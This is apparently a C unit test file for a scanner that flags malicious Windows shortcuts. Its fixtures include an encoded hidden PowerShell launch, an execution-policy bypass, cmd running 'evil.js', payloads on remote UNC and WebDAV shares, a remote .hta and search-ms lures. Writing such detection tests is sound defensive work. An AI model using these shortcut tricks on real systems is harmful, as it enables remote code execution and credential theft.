/*
 * test_lnk.c: lnk_scan on shell links and text shortcuts built in the test: targets
 * from LinkInfo (local and network), the environment block and StringData (UTF-16
 * and ANSI), launcher and remote call-outs, unpaired surrogates, truncation.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#define TESTLIB_FIXTURE
#include "testlib.h"
#include "core/strbuf.h"

static void
run_buf(struct run *t, const void *buf, size_t n)
{
	run_analyser(t, buf, n, TC_SHORTCUT, lnk_scan);
}

#define F_IDLIST   0x01
#define F_LINKINFO 0x02
#define F_ARGS     0x20
#define F_ICON     0x40
#define F_UNICODE  0x80

static void
header(struct strbuf *sb, uint32_t flags)
{
	static const unsigned char clsid[16] = { 0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
	    0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
	int i;

	put32(sb, 0x4c);
	sb_add(sb, clsid, 16);
	put32(sb, flags);
	for (i = 0x18; i < 0x4c; i++)
		sb_addc(sb, 0);
}

/* LinkInfo with a local base path (BASE) or a network share (NET), and a suffix. */
static void
linkinfo(struct strbuf *sb, const char *base, const char *net, const char *suffix)
{
	size_t nb = base ? strlen(base) + 1 : 0, nn = net ? 0x14 + strlen(net) + 1 : 0;
	size_t ns = strlen(suffix) + 1;
	uint32_t size = (uint32_t)(0x1c + nb + nn + ns);

	put32(sb, size);
	put32(sb, 0x1c);
	put32(sb, base ? 1 : 2);
	put32(sb, 0);                                   /* VolumeID: not read */
	put32(sb, base ? 0x1c : 0);                     /* LocalBasePath */
	put32(sb, net ? (uint32_t)(0x1c + nb) : 0);     /* CommonNetworkRelativeLink */
	put32(sb, (uint32_t)(0x1c + nb + nn));          /* CommonPathSuffix */
	if (base)
		sb_add(sb, base, nb);
	if (net) {
		put32(sb, (uint32_t)nn);
		put32(sb, 0);
		put32(sb, 0x14);
		put32(sb, 0);
		put32(sb, 0);
		sb_add(sb, net, strlen(net) + 1);
	}
	sb_add(sb, suffix, ns);
}

/* A counted StringData entry, UTF-16LE of ASCII S (or ANSI). */
static void
str(struct strbuf *sb, const char *s, int unicode)
{
	put16(sb, (unsigned)strlen(s));
	for (; *s; s++) {
		sb_addc(sb, *s);
		if (unicode)
			sb_addc(sb, 0);
	}
}

static void
powershell_encoded_is_called_out(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;

	(void)state;
	header(&sb, F_IDLIST | F_LINKINFO | F_ARGS | F_UNICODE);
	put16(&sb, 4);
	put32(&sb, 0);                         /* an ID list of 4 bytes, skipped */
	linkinfo(&sb, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", NULL, "");
	str(&sb, "-nop -w hidden -Enc SQBFAFgA", 1);
	put32(&sb, 0);
	run_buf(&t, sb.s, sb.len);
	assert_non_null(tl_detail(t.r, -1, "type.shortcut"));
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "target=C:\\Windows\\System32\\"
	    "WindowsPowerShell\\v1.0\\powershell.exe"));
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "args=-nop -w hidden -Enc SQBFAFgA"));
	assert_non_null(tl_detail(t.r, -1, "shortcut.launcher"));
	assert_non_null(strstr(tl_detail(t.r, -1, "shortcut.launcher"), "powershell with an encoded"));
	assert_null(tl_detail(t.r, -1, "scan.error"));
	run_free(&t);
	sb_free(&sb);
}

static void
execution_policy_switch_is_not_encoded(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;

	(void)state;
	header(&sb, F_LINKINFO | F_ARGS);
	linkinfo(&sb, "C:\\Windows\\powershell.exe", NULL, "");
	str(&sb, "-ep bypass -File x.ps1", 0);
	run_buf(&t, sb.s, sb.len);
	assert_non_null(tl_detail(t.r, -1, "shortcut.launcher"));
	assert_null(strstr(tl_detail(t.r, -1, "shortcut.launcher"), "encoded"));
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "args=-ep bypass -File x.ps1"));
	run_free(&t);
	sb_free(&sb);
}

/* Environment (or IconEnvironment) data block: 0x314 bytes, ANSI 260 then
 * Unicode 520. */
static void
env_block_sig(struct strbuf *sb, const char *target, uint32_t sig)
{
	size_t i, n = strlen(target);

	put32(sb, 0x314);
	put32(sb, sig);
	for (i = 0; i < 260; i++)
		sb_addc(sb, 0);
	for (i = 0; i < 260; i++) {
		sb_addc(sb, i < n ? target[i] : 0);
		sb_addc(sb, 0);
	}
}

static void
env_block(struct strbuf *sb, const char *target)
{
	env_block_sig(sb, target, 0xa0000001u);
}

static void
environment_block_target_and_cmd(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;

	(void)state;
	header(&sb, F_ARGS | F_UNICODE);
	str(&sb, "/c start evil.js", 1);
	env_block(&sb, "%COMSPEC%");
	put32(&sb, 0);
	run_buf(&t, sb.s, sb.len);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "env target=%COMSPEC%"));
	run_free(&t);
	sb_free(&sb);
	sb_init(&sb, 0);
	header(&sb, F_ARGS | F_UNICODE);
	str(&sb, "/c start evil.js", 1);
	env_block(&sb, "%windir%\\system32\\cmd.exe");
	run_buf(&t, sb.s, sb.len);
	assert_non_null(tl_detail(t.r, -1, "shortcut.launcher"));
	assert_non_null(strstr(tl_detail(t.r, -1, "shortcut.launcher"), "cmd"));
	run_free(&t);
	sb_free(&sb);
}

static void
icon_environment_block_on_a_share_is_remote(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;

	(void)state;
	header(&sb, F_LINKINFO);
	linkinfo(&sb, "C:\\Windows\\notepad.exe", NULL, "");
	env_block_sig(&sb, "\\\\198.51.100.9\\icons\\x.ico", 0xa0000007u);
	run_buf(&t, sb.s, sb.len);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "icon=\\\\198.51.100.9\\icons\\x.ico"));
	assert_non_null(tl_detail(t.r, -1, "shortcut.remote"));
	run_free(&t);
	sb_free(&sb);
}

static void
benign_target_has_no_call_out(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;

	(void)state;
	header(&sb, F_LINKINFO | F_ICON);
	linkinfo(&sb, "C:\\Program Files\\Editor\\edit.exe", NULL, "");
	str(&sb, "C:\\Program Files\\Editor\\edit.ico", 0);
	run_buf(&t, sb.s, sb.len);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "icon=C:\\Program Files\\Editor\\edit.ico"));
	assert_null(tl_detail(t.r, -1, "shortcut.launcher"));
	assert_null(tl_detail(t.r, -1, "shortcut.remote"));
	run_free(&t);
	sb_free(&sb);
}

static void
network_share_is_remote(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;

	(void)state;
	header(&sb, F_LINKINFO);
	linkinfo(&sb, NULL, "\\\\203.0.113.5\\share", "payload.exe");
	run_buf(&t, sb.s, sb.len);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"),
	    "target=\\\\203.0.113.5\\share\\payload.exe"));
	assert_non_null(tl_detail(t.r, -1, "shortcut.remote"));
	run_free(&t);
	sb_free(&sb);
}

static void
unpaired_surrogate_becomes_replacement(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;

	(void)state;
	header(&sb, F_ARGS | F_UNICODE);
	put16(&sb, 3);
	put16(&sb, 'a');
	put16(&sb, 0xd800);
	put16(&sb, 'b');
	run_buf(&t, sb.s, sb.len);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "args=a\xef\xbf\xbd" "b"));
	run_free(&t);
	sb_free(&sb);
}

static void
every_truncation_is_survived(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct run t;
	size_t n;

	(void)state;
	header(&sb, F_IDLIST | F_LINKINFO | F_ARGS | F_ICON | F_UNICODE);
	put16(&sb, 2);
	put16(&sb, 0);
	linkinfo(&sb, NULL, "\\\\srv\\s", "x.exe");
	str(&sb, "-a", 1);
	str(&sb, "i.ico", 1);
	env_block(&sb, "%x%");
	for (n = 0; n < sb.len; n++) {
		run_buf(&t, sb.s, n);
		if (n >= 4) {
			assert_non_null(tl_detail(t.r, -1, "type.shortcut"));
			/* Cut inside a structure: said so. */
			if (n > 0x4c && n < sb.len - 0x314)
				assert_non_null(tl_detail(t.r, -1, "scan.error"));
		}
		run_free(&t);
	}
	sb_free(&sb);
}

static void
internet_shortcuts(void **state)
{
	static const char remote[] = "[InternetShortcut]\r\nURL=file://203.0.113.5/s/a.hta\r\n"
	    "IconFile=\\\\203.0.113.5\\s\\i.ico\r\n";
	static const char web[] = "[InternetShortcut]\nURL=https://example.org/\n";
	static const char scf[] = "[Shell]\nCommand=2\nIconFile=\\\\198.51.100.7\\x\\y.ico\n";
	struct run t;

	(void)state;
	run_buf(&t, remote, sizeof(remote) - 1);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "url: target=file://203.0.113.5/s/a.hta"));
	assert_non_null(tl_detail(t.r, -1, "shortcut.remote"));
	run_free(&t);
	run_buf(&t, web, sizeof(web) - 1);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "target=https://example.org/"));
	assert_null(tl_detail(t.r, -1, "shortcut.remote"));
	run_free(&t);
	run_buf(&t, scf, sizeof(scf) - 1);
	assert_non_null(strstr(tl_detail(t.r, -1, "type.shortcut"), "scf: "));
	assert_non_null(tl_detail(t.r, -1, "shortcut.remote"));
	run_free(&t);
}

/* search-ms: and WebDAV targets, and libraries or search connectors off the
 * machine; a local library is only a shortcut. */
static void
search_ms_webdav_and_libraries(void **state)
{
	static const char search[] = "[InternetShortcut]\r\nURL=search-ms:query=invoice"
	    "&crumb=location:\\\\203.0.113.5@SSL\\DavWWWRoot\\s&displayname=Downloads\r\n";
	static const char dav[] = "[InternetShortcut]\nURL=file://203.0.113.5@80/dav/a.lnk\n";
	static const char lib[] = "<?xml version=\"1.0\"?><libraryDescription><searchConnector"
	    "DescriptionList><searchConnectorDescription><simpleLocation><url>\\\\"
	    "files.example@SSL\\DavWWWRoot\\docs</url></simpleLocation>"
	    "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>";
	static const char conn[] = "<searchConnectorDescription><simpleLocation><url>"
	    "https://files.example/docs/</url></simpleLocation></searchConnectorDescription>";
	static const char local[] = "<libraryDescription><simpleLocation><url>knownfolder:"
	    "{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></libraryDescription>";
	struct run t;

	(void)state;
	run_buf(&t, search, sizeof(search) - 1);
	assert_non_null(strstr(tl_detail(t.r, -1, "shortcut.search_ms"), "url: search-ms:query=invoice"));
	run_free(&t);
	run_buf(&t, dav, sizeof(dav) - 1);
	assert_non_null(tl_detail(t.r, -1, "shortcut.webdav"));
	assert_non_null(tl_detail(t.r, -1, "shortcut.remote"));   /* file:// as before */
	run_free(&t);
	run_buf(&t, lib, sizeof(lib) - 1);
	assert_non_null(strstr(tl_detail(t.r, -1, "shortcut.webdav"), "library-ms: \\\\files.example@SSL"));
	run_free(&t);
	run_buf(&t, conn, sizeof(conn) - 1);
	assert_string_equal(tl_detail(t.r, -1, "shortcut.remote"),
	    "searchConnector-ms on a web URL: https://files.example/docs/");
	run_free(&t);
	run_buf(&t, local, sizeof(local) - 1);
	assert_non_null(tl_detail(t.r, -1, "type.shortcut"));
	assert_null(tl_detail(t.r, -1, "shortcut.remote"));
	assert_null(tl_detail(t.r, -1, "shortcut.webdav"));
	assert_null(tl_detail(t.r, -1, "shortcut.search_ms"));
	run_free(&t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(powershell_encoded_is_called_out),
		cmocka_unit_test(execution_policy_switch_is_not_encoded),
		cmocka_unit_test(environment_block_target_and_cmd),
		cmocka_unit_test(icon_environment_block_on_a_share_is_remote),
		cmocka_unit_test(benign_target_has_no_call_out),
		cmocka_unit_test(network_share_is_remote),
		cmocka_unit_test(unpaired_surrogate_becomes_replacement),
		cmocka_unit_test(every_truncation_is_survived),
		cmocka_unit_test(internet_shortcuts),
		cmocka_unit_test(search_ms_webdav_and_libraries),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
